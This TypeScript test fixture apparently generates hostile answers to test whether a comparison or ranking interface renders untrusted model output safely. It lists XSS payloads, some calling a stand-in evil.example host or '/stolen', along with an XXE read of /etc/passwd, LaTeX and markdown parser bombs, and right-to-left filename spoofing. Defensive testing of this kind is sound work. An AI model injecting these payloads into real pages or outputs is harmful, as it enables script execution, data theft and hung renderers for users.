/** An answer made to run, fetch, cover, hide, deceive or hang. */
export interface HostileAnswer {
  readonly name: string;
  readonly text: string;
  /** The text as the raw view shows it, where characters that show nothing are named. */
  readonly raw?: string;
}

const elsewhere = 'https://evil.example';
/** What every script of these answers would do. */
const deed = `globalThis.hacked=1,fetch('/stolen')`;

/** The nth of a, b, c …: names for macros. */
const letter = (nth: number) => String.fromCodePoint(97 + nth);

const markup: HostileAnswer[] = [
  { name: 'a script', text: `<script>${deed}</script>` },
  { name: 'a script from elsewhere', text: `<script src="${elsewhere}/x.js"></script>` },
  { name: 'an event handler', text: `<img src=x onerror="${deed}">` },
  { name: 'a drawing that loads', text: `<svg onload="${deed}"><script>${deed}</script></svg>` },
  { name: 'a frame', text: `<iframe srcdoc="<script>parent.${deed}</script>" src="${elsewhere}"></iframe>` },
  {
    name: 'a form over all',
    text: `<form action="${elsewhere}"><button style="position:fixed;inset:0">Submit</button></form>`,
  },
  {
    name: 'styles',
    text: `<style>@import url(${elsewhere}/x.css); .dock{display:none} *{color:red}</style>`,
  },
  {
    name: 'a refresh',
    text: `<meta http-equiv="refresh" content="0;url=${elsewhere}"><base href="${elsewhere}/">`,
  },
  {
    name: 'a stylesheet',
    text: `<link rel=stylesheet href="${elsewhere}/x.css"><link rel=prefetch href="${elsewhere}/p">`,
  },
  {
    name: 'an object',
    text: `<object data="${elsewhere}"></object><embed src="${elsewhere}"><video src="${elsewhere}" autoplay>`,
  },
  { name: 'a comment', text: 'before <!-- hidden from annotators --> after' },
  {
    name: 'a broken tag',
    text: `<<script>script>${deed}<</script>/script><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  },
  { name: 'elements with our ids', text: '<div id="root"></div><input name="hacked"><a id="hacked"></a>' },
  {
    name: 'a field that takes the focus',
    text: `<input autofocus onfocus="${deed}"><select onfocus=${deed} autofocus>`,
  },
  { name: 'a drawing that moves', text: `<svg><animate onbegin="${deed}" attributeName=x dur=1s></svg>` },
  {
    name: 'a drawing that links',
    text: `<svg><a xlink:href="javascript:${deed}"><text y="20">Submit</text></a><use href="${elsewhere}/x.svg#a"/></svg>`,
  },
  {
    name: 'a page within a drawing',
    text: `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${deed}"/></foreignObject></svg>`,
  },
  {
    name: 'a page within a formula',
    text: `<math><annotation-xml encoding="text/html"><img src=x onerror="${deed}"></annotation-xml></math>`,
  },
  {
    name: 'details that open',
    text: `<details open ontoggle="${deed}"><summary>Read more</summary></details>`,
  },
  {
    name: 'a dialog',
    text: `<dialog open><form method=dialog><button onclick="${deed}">OK</button></form></dialog>`,
  },
  { name: 'text without end', text: `<plaintext><textarea><title><xmp><noscript><template>` },
  {
    name: 'pictures by other names',
    text: `<picture><source srcset="${elsewhere}/1.png"></picture><img srcset="${elsewhere}/2.png 2x" loading=eager><image src="${elsewhere}/3.png">`,
  },
  {
    name: 'sounds',
    text: `<audio src="${elsewhere}/a.mp3" autoplay onerror="${deed}"></audio><video poster="${elsewhere}/p.png"><track src="${elsewhere}/t.vtt" default>`,
  },
  { name: 'a link that reports', text: `<a href="${elsewhere}" ping="/stolen" target=_blank>more</a>` },
  {
    name: 'a background',
    text: `<table background="${elsewhere}/b.png"><td style="background:url(${elsewhere}/c.png)">x`,
  },
  {
    name: 'a body',
    text: `</main></body><body onload="${deed}" onpageshow="${deed}"><marquee onstart="${deed}">x`,
  },
  {
    name: 'a script in entities',
    text: `&lt;script&gt;${deed}&lt;/script&gt; &#60;img src=x onerror=${deed}&#62;`,
  },
  {
    name: 'an entity of a file',
    text: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a><![CDATA[<script>${deed}</script>]]><?xml-stylesheet href="${elsewhere}/x.xsl"?>`,
  },
];

const markdown: HostileAnswer[] = [
  { name: 'a link that runs', text: `[Read more](javascript:${deed})` },
  {
    name: 'links that run, disguised',
    text: `[a](JaVaScRiPt:${deed}) [b](&#106;avascript:${deed}) [c](java&Tab;script:${deed}) <javascript:${deed}>`,
  },
  {
    name: 'a page as a link',
    text: `[Read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  },
  { name: 'a link into ours', text: '[Your settings](/me) [Sign in](//evil.example/sign-in)' },
  { name: 'a picture from elsewhere', text: `![seen](${elsewhere}/pixel.png?who=you "seen")` },
  {
    name: 'pictures from here',
    text: '![a](/stolen) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c][ref]\n\n[ref]: /stolen',
  },
  { name: 'a link with a handler', text: `[x](${elsewhere} "onmouseover=${deed}")` },
  {
    name: 'code that closes its box',
    text: '```"><script>globalThis.hacked=1</script>\n</code></pre><script>globalThis.hacked=1</script>\n```',
  },
  {
    name: 'links of other kinds',
    text: '[a](vbscript:alert(1)) [b](file:///etc/passwd) [c](blob:null/1) [d](view-source:x)',
  },
  { name: 'a link behind a picture', text: `[![seen](${elsewhere}/p.png)](javascript:${deed})` },
  { name: 'a link by reference', text: `[more][to]\n\n[to]: javascript:${deed} "title"` },
  {
    name: 'markup in a table',
    text: `|<script>${deed}</script>|b|\n|-|-|\n|<img src=x onerror=${deed}>|[x](javascript:${deed})|`,
  },
  { name: 'markup in a heading', text: `# <a name="root" onclick=${deed}>x</a>\n\nSetext <b>\n===` },
  {
    name: 'a name for anything',
    text: 'constructor __proto__ [hasOwnProperty]\n\n[hasownproperty]: /stolen\n[__proto__]: /stolen',
  },
];

const formulas: HostileAnswer[] = [
  {
    name: 'a formula that links',
    text: `$\\href{javascript:${deed}}{x}$ and $$\\url{javascript:alert(1)}$$`,
  },
  { name: 'a formula that loads', text: `$\\includegraphics[height=9em]{${elsewhere}/p.png}$` },
  { name: 'a formula over all', text: '$$\\rule{99999em}{99999em}\\kern-9999em\\raisebox{9999em}{x}$$' },
  {
    name: 'a formula of our classes',
    text: '$\\class{dock}{x}\\style{position:fixed;inset:0}{y}\\cssId{root}{z}\\htmlData{a=b}{w}$',
  },
  { name: 'a formula without end', text: '$\\def\\a{\\a\\a}\\a$ $\\newcommand\\b{\\b}\\b$' },
  {
    name: 'a formula that doubles',
    text: `$${Array.from({ length: 24 }, (_, n) => `\\def\\${letter(n + 1)}{\\${letter(n)}\\${letter(n)}}`).join('')}\\${letter(24)}$`,
  },
  {
    name: 'a formula of colours',
    text: '$\\color{red;background:url(/stolen)}{x}\\textcolor{"onload=1}{y}\\colorbox{#000}{z}$',
  },
  { name: 'a formula of markup', text: `$\\text{<img src=x onerror="${deed}">}$ $\\unicode{x3cscript}$` },
  { name: 'a wide formula', text: `$$\\begin{matrix}${'x&'.repeat(3_000)}\\end{matrix}$$` },
];

const bombs: HostileAnswer[] = [
  { name: 'open emphasis', text: '*a_ '.repeat(20_000) },
  { name: 'deep quotes', text: `${'>'.repeat(8_000)} deep` },
  {
    name: 'deep lists',
    text: Array.from({ length: 400 }, (_, depth) => `${' '.repeat(2 * depth)}- x`).join('\n'),
  },
  { name: 'open brackets', text: '['.repeat(50_000) },
  { name: 'a wide table', text: `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n${'|b\n'.repeat(500)}` },
  { name: 'deep braces', text: `$${'{'.repeat(20_000)}x${'}'.repeat(20_000)}$` },
  { name: 'a megabyte', text: 'All work and no play makes Jack a dull boy. '.repeat(22_700) },
  { name: 'one long word', text: 'w'.repeat(200_000) },
  { name: 'many backticks', text: Array.from({ length: 400 }, (_, n) => '`'.repeat(n + 1)).join(' a ') },
  {
    name: 'many definitions',
    text: Array.from({ length: 5_000 }, (_, n) => `[r${n}]: /stolen${n}`).join('\n'),
  },
  { name: 'many entities', text: '&amp;&#x26;&nbsp;'.repeat(8_000) },
  { name: 'links in links', text: `${'[a]('.repeat(5_000)}x${')'.repeat(5_000)}` },
  { name: 'many dollars', text: '$x'.repeat(20_000) },
  { name: 'code without end', text: `\`\`\`js\n${'/* { [ ( " '.repeat(4_000)}` },
];

const deceits: HostileAnswer[] = [
  { name: 'turned text', text: 'Pay \u202e001\u202c now\u2066!', raw: 'Pay RLO001PDF nowLRI!' },
  { name: 'hidden text', text: 'a\u200b\u200b\u200bb\u{e0041}c\ufeff', raw: 'aZWSP ×3bU+E0041cBOM' },
  { name: 'control characters', text: 'a\u0007b\u001b[31mred\u007f', raw: 'aU+0007bU+001B[31mredDEL' },
  {
    name: 'a turned name of a file',
    text: 'Open `invoice\u202efdp.exe` now.',
    raw: 'Open `invoiceRLOfdp.exe` now.',
  },
  { name: 'letters on letters', text: `H${'\u0300\u0489'.repeat(2_000)}e` },
];

export const hostileAnswers: readonly HostileAnswer[] = [
  ...markup,
  ...markdown,
  ...formulas,
  ...bombs,
  ...deceits,
];

/** Each as the prompt and as an answer of a pair; the other answer is harmless. */
export function hostileRows(): string {
  return hostileAnswers
    .map(({ name, text }) => {
      const responses = [
        { id: 'a', content: text, model: `<img src=x onerror="${deed}">` },
        { id: 'b', content: `Harmless beside ${name}` },
      ];
      const prompt = [
        { role: 'system', content: `On ${name}.` },
        { role: 'user', content: text },
      ];
      return `${JSON.stringify({ id: name, prompt, responses })}\n`;
    })
    .join('');
}

/** The short ones as the answers of one ranking. */
export function hostileRanking(): string {
  const short = hostileAnswers.filter(({ text }) => text.length < 1_000).slice(0, 16);
  const responses = short.map(({ text }, index) => ({ id: `r${index}`, content: text }));
  return `${JSON.stringify({ id: 'all', prompt: 'Rank them.', responses })}\n`;
}
